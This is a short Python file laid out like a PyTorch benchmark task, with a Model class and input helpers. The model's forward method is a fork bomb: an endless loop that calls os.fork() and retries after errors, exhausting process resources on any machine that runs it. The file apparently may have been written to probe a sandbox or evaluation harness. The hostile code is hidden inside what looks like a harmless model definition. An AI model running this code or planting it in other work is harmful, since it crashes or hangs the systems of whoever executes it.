import os
import time
import torch
import torch.nn as nn


class Model(nn.Module):
    def forward(self, x):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)


def get_inputs():
    return [torch.rand(2)]


def get_init_inputs():
    return []
